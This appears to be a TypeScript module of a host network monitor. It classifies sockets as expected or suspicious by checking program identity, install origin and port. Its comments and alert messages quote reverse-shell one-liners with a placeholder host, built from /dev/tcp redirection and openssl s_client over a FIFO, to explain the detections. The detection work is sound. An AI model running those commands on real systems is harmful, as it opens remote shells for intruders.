import type { PortEntry } from "../knowledge/schema.js";
import { ownerText, type ProcessInfo } from "../model/process.js";
import type { Socket } from "../model/socket.js";
import type { Reason } from "../model/verdict.js";
import { ipKey } from "../model/ip-number.js";
import { processNames } from "./program-names.js";
import { firewallShields } from "./reach.js";
import type { Rule, RuleContext } from "./rules.js";
import { scriptOf } from "./command-line.js";
import { hiddenComponent, homeOf } from "../model/places.js";
import { exeOrigin, identify, isPublicAddress, originWords, type Identity } from "./trust.js";

// What makes a socket expected, and the rules that take "expected" away from a program that only looks
// the part. Expected needs a reason, not a port or a name (issue 12):
// - knowledge that a daemon owns a port holds only when the holder *is* that daemon (trust.ts identify:
//   its executable, not its name);
// - an outbound connection is expected when the program is a known client of that protocol, or its
//   executable is installed (a system folder, and not found changed by a package check), or the
//   baseline or policy says so; a program from a home, hidden, temporary or deleted place talking to a
//   public address is unknown and says where it runs from;
// - DNS and NTP straight to a public address are a resolver's and a time daemon's job only;
// - a miner is suspicious on any port, by its name or by arguments only miners take.

const reason = (rule: string, verdict: Reason["verdict"], message: string): Reason => ({ rule, verdict, message });
const portText = (port: number, proto: string) => `${port}/${proto}`;
const who = (p: ProcessInfo | null): string => (p === null ? "an unknown program" : ownerText(p));

/** Whether the holder is one of `owners` (see trust.ts identify), from its names. */
function identity(ctx: RuleContext, p: ProcessInfo | null, owners: readonly string[]): Identity {
  return identify(p, processNames(p, ctx.knowledge), owners);
}

/**
 * The holder's name in a message: its own, or, when a capture printed a cut name or a process title
 * ("avahi-dae", "sshd: /usr/sb"), the program that name was taken for, with what the capture showed.
 */
function calledAs(ctx: RuleContext, p: ProcessInfo | null, candidates: readonly string[]): string {
  const name = p?.name ?? "?";
  if (p === null || candidates.includes(name)) return name;
  const as = candidates.find((c) => processNames(p, ctx.knowledge).includes(c));
  return as === undefined ? name : `${as} (shown as "${name}")`;
}

/** The members of a program group (programs.json) that the holder's names are in. */
function groupNames(ctx: RuleContext, group: Parameters<RuleContext["knowledge"]["is"]>[0], p: ProcessInfo | null): string[] {
  return processNames(p, ctx.knowledge).filter((n) => ctx.knowledge.is(group, n));
}

/** Whether the holder is a genuine member of a program group: in it by name, and (live) by executable. */
function genuineIn(ctx: RuleContext, group: Parameters<RuleContext["knowledge"]["is"]>[0], p: ProcessInfo | null): Identity {
  const members = groupNames(ctx, group, p);
  return members.length === 0 ? null : identity(ctx, p, members);
}

/** Why a holder that goes by a program's name is not it; null when it is, or does not claim to be. */
function notIt(id: Identity): string | null {
  return id !== null && !id.is ? id.why : null;
}

/** "(by name only: a capture shows no executable)" and the like, for messages that trust a name. */
function byNameNote(ctx: RuleContext, id: Identity): string {
  if (id === null || !id.is || id.by === "exe") return "";
  return ctx.mode === "capture" ? " (by its name: the capture shows no program file)" : " (by its name: its program file could not be read)";
}

function exposureFits(entry: PortEntry, s: Socket): boolean {
  if (s.direction !== "listening" || entry.scope !== "loopback") return true;
  return s.exposure === "loopback" || s.exposure === "container";
}

/**
 * Whether an outbound connection's program is installed: a system folder, not deleted, not found changed;
 * and, where the host has a package database portwatch reads (dpkg), owned by a package.
 */
function installed(p: ProcessInfo): boolean {
  if (exeOrigin(p) !== "system" || p.package?.verified === false) return false;
  return p.provenance?.database !== "dpkg" || (p.package !== null && p.package !== undefined);
}

/**
 * A connection to the Internet held by a program that only carries bytes between it and its standard input
 * and output (openssl s_client, telnet), or by one that never opens a connection itself (sleep, cat): the
 * building blocks of the reverse shells that no shell holds, `sh -i < FIFO 2>&1 | openssl s_client -quiet
 * -connect HOST:443 > FIFO` and `cat </dev/tcp/HOST/443 | sh`. Installed and on port 443, they would
 * otherwise pass for an ordinary web connection. A stream client typed on a terminal (a test of a TLS
 * server) is only unknown; without a terminal (tty read as none), nobody types into it: suspicious.
 */
function pipedOutbound(ctx: RuleContext, p: ProcessInfo, port: number): Reason | null {
  const names = processNames(p, ctx.knowledge);
  const carrier = names.find((n) => ctx.knowledge.is("noSockets", n));
  if (carrier !== undefined) {
    return reason("handed-connection", "suspicious", `${who(p)} never opens a network connection itself, yet holds one to a server on the Internet (port ${port}): it was handed it, by a shell's redirection (cat </dev/tcp/HOST/PORT | sh, exec 3<>/dev/tcp/HOST/PORT) or a pipeline: a reverse shell or a beacon that no shell is seen to hold`);
  }
  const tool = names.find((n) => ctx.knowledge.is("streamClients", n));
  if (tool === undefined) return null;
  if (p.tty === null) {
    return reason("stream-client", "suspicious", `${who(p)} passes its input and output to a server on the Internet (port ${port}) and has no terminal, so nobody is typing into it: its input comes from a pipe or a file, as in the reverse shell sh -i < FIFO 2>&1 | ${tool === "openssl" ? "openssl s_client -quiet -connect" : tool} HOST:PORT > FIFO`);
  }
  return reason("stream-client", "unknown", `${who(p)} passes what is typed or piped into it to a server on the Internet (port ${port}): by hand, a test of a server; in a pipeline with a shell (mkfifo), a reverse shell: look at what runs beside it`);
}

const SCRIPT_PLACE = { memfd: "memory only (fileless)", "world-writable": "a folder anyone can write to", home: "a home directory", hidden: "a hidden folder" } as const;

const WEB_PORTS = { tcp: [80, 443], udp: [443, 3478, 19302] } as const;

export const TRUST_RULES: readonly Rule[] = [
  {
    id: "miner",
    check(s, ctx) {
      const p = s.process;
      if (p === null || s.direction === "listening") return null;
      const named = groupNames(ctx, "miners", p)[0];
      const arg = ctx.knowledge.miningArgument(p.cmdline?.slice(1) ?? []);
      if (named === undefined && arg === null) return null;
      const sign = arg !== null ? `its arguments say mining (${arg.length > 60 ? `${arg.slice(0, 60)}…` : arg})` : `${named} is a cryptocurrency miner`;
      return reason("miner", "suspicious", `${who(p)}: ${sign}; miners dropped on servers hide behind any port, 443 included`);
    },
  },
  {
    id: "known-service",
    check(s, ctx) {
      if (s.direction !== "listening" && s.direction !== "inbound") return null;
      const entry = ctx.knowledge.port(s.local.port, s.proto);
      if (!entry || !exposureFits(entry, s)) return null;
      if (processNames(s.process, ctx.knowledge).length > 0) {
        const id = identity(ctx, s.process, entry.owners);
        if (id === null || !id.is) return null; // not that daemon: unexpected-owner / impostor say so
        return reason("known-service", "expected", `${calledAs(ctx, s.process, entry.owners)} is the usual owner of ${portText(s.local.port, s.proto)} (${entry.name})${byNameNote(ctx, id)}`);
      }
      if (entry.normal === "none" || ctx.mode === "live-root") return null;
      return reason("known-service", "expected", `${portText(s.local.port, s.proto)} (${entry.name}) is part of a default ${entry.normal === "both" ? "desktop and server" : entry.normal} install${ctx.mode === "live" ? " (its owner could not be checked without root)" : ""}`);
    },
  },
  {
    id: "impostor",
    check(s, ctx) {
      if (s.process === null || (s.direction !== "listening" && s.direction !== "inbound")) return null;
      const entry = ctx.knowledge.port(s.local.port, s.proto);
      let id = entry ? identity(ctx, s.process, entry.owners) : null;
      if (id === null && s.proto === "udp" && s.direction === "listening") id = genuineIn(ctx, "randomUdp", s.process);
      if (id === null || id.is) return null;
      const exposed = s.direction === "listening" && s.exposure !== "loopback" && firewallShields(s) === null;
      const root = s.process.uid === 0;
      const verdict = exposed && (root || exeOrigin(s.process) !== "system") ? "suspicious" : "unknown";
      return reason("impostor", verdict, `${who(s.process)} goes by a daemon's name, but ${id.why}: a name is what a program calls itself, not what it is`);
    },
  },
  {
    id: "random-udp",
    check(s, ctx) {
      if (s.proto !== "udp" || s.direction !== "listening" || s.local.port < 1024) return null;
      const id = genuineIn(ctx, "randomUdp", s.process);
      if (id === null || !id.is) return null;
      return reason("random-udp", "expected", `${calledAs(ctx, s.process, groupNames(ctx, "randomUdp", s.process))} normally opens a random UDP port like this one for its own queries${byNameNote(ctx, id)}`);
    },
  },
  {
    id: "irc-client",
    check(s, ctx) {
      if (s.direction !== "outbound" || s.remote === null || s.proto !== "tcp") return null;
      if (!ctx.knowledge.indicators(s.remote.port, "tcp").some((h) => h.list === "irc")) return null;
      const id = genuineIn(ctx, "ircClients", s.process);
      if (id === null || !id.is) return null;
      return reason("irc-client", "expected", `${calledAs(ctx, s.process, groupNames(ctx, "ircClients", s.process))} is an IRC client on an IRC server's port${byNameNote(ctx, id)}`);
    },
  },
  {
    id: "usual-outbound",
    check(s, ctx) {
      if (s.direction !== "outbound" || s.remote === null) return null;
      const port = s.remote.port;
      const p = s.process;
      const isPublic = isPublicAddress(s.remote.address);
      const clientOf = (group: "resolvers" | "timeClients") => { const id = genuineIn(ctx, group, p); return id !== null && id.is; };
      if (isPublic && p !== null) { const piped = pipedOutbound(ctx, p, port); if (piped !== null) return piped; }
      if (port === 53 || port === 853) {
        if (!isPublic || clientOf("resolvers") || p === null) return reason("usual-outbound", "expected", `A DNS lookup to port ${port}${p ? ` by ${p.name}` : ""}`);
        // A server this computer's resolver is set up to ask (/etc/resolv.conf, no local stub in between): a program's own lookups go there.
        if (isNameserver(ctx, s)) return reason("usual-outbound", "expected", `A DNS lookup to port ${port} by ${p.name}, to a server this computer's resolver is set up to ask (/etc/resolv.conf)`);
        return reason("direct-dns", "unknown", `${who(p)} sends DNS straight to a server on the Internet instead of asking this computer's resolver: programs normally ask the resolver; malware beacons and tunnels data this way`);
      }
      if (port === 123 && s.proto === "udp") {
        if (!isPublic || clientOf("timeClients") || p === null) return reason("usual-outbound", "expected", `A clock sync (NTP) to port 123${p ? ` by ${p.name}` : ""}`);
        return reason("direct-ntp", "unknown", `${who(p)} is not a time daemon but sends NTP-shaped traffic straight to a server on the Internet`);
      }
      const browser = genuineIn(ctx, "browsers", p), anyPort = genuineIn(ctx, "outboundAny", p);
      if ((browser?.is ?? false) || (anyPort?.is ?? false)) {
        return reason("usual-outbound", "expected", `${p?.name} connects to many ports as part of its job${byNameNote(ctx, browser?.is ? browser : anyPort)}`);
      }
      // It calls itself a program that connects anywhere (prctl, exec -a: python3 named sshd), but is not it.
      const posed = notIt(browser) ?? notIt(anyPort);
      if (p !== null && isPublic && posed !== null) {
        const name = groupNames(ctx, notIt(browser) !== null ? "browsers" : "outboundAny", p)[0] ?? p.name;
        return reason("impostor", "unknown", `${who(p)} is named after ${name}, a program that connects anywhere, but is not it (${posed}): a name is what a program calls itself, not what it is`);
      }
      const web = (WEB_PORTS[s.proto as "tcp" | "udp"] as readonly number[] | undefined)?.includes(port) ?? false;
      if (!web) return null;
      const what = port === 3478 || port === 19302 ? "A video-call (STUN) connection" : "An ordinary web connection";
      // Without a program file in a capture (netstat -p, lsof show no path) the port is all there is, as
      // before. On a live host portwatch as root reads every holder's program; one it could not read (the
      // process was replaced or exited mid-look, or hides it) explains nothing.
      if (p !== null && p.exe === null && isPublic && ctx.mode === "live-root") {
        return reason("unpackaged-outbound", "unknown", `${who(p)} talks to a server on the Internet (port ${port}), and its program file could not be read: nothing says which program it is`);
      }
      // An installed interpreter vouches only for scripts from where programs are installed: python3 ~/.cache/b.py is the script's program.
      const script = p === null || p.exe === null || !isPublic ? null : scriptOf(p, ctx.knowledge);
      // A script from where an administrator installs programs (/opt/app/client.py, /usr/local/bin/tool,
      // /srv) run by the installed interpreter stays expected: its executable comes from an installed,
      // unmodified package, and only root can put a script there (writable-dir-exe and home-exe say when
      // someone else can). A script from a home, hidden or temporary folder is the program (above).
      if (p === null || p.exe === null || !isPublic || (installed(p) && script === null)) return reason("usual-outbound", "expected", `${what} to port ${port}${p ? ` by ${p.name}${p.exe && isPublic ? ", an installed program" : ""}` : ""}`);
      const hiddenInHome = script?.place === "home" && hiddenComponent(script.path.slice(homeOf(script.path)?.length ?? 0)) !== null;
      const runs = script === null || !installed(p) ? `runs ${originWords(p)}` : `runs the script ${script.path} from ${hiddenInHome ? "a hidden folder in a home directory" : SCRIPT_PLACE[script.place]},`;
      return reason("unpackaged-outbound", "unknown", `${who(p)} ${runs} and talks to a server on the Internet (port ${port}): a program nobody installed, calling out to the Internet`);
    },
  },
];

/**
 * Whether `s` goes to a DNS port of a server the live host's resolver asks (RuleContext.nameservers, from
 * /etc/resolv.conf). Read by direct-dns, and by the judgement memo's key (evaluate.ts).
 */
export function isNameserver(ctx: RuleContext, s: Socket): boolean {
  const r = s.remote;
  if (r === null || (r.port !== 53 && r.port !== 853) || ctx.nameservers === undefined || ctx.nameservers.size === 0) return false;
  const key = ipKey(r.address);
  return key !== null && ctx.nameservers.has(key);
}
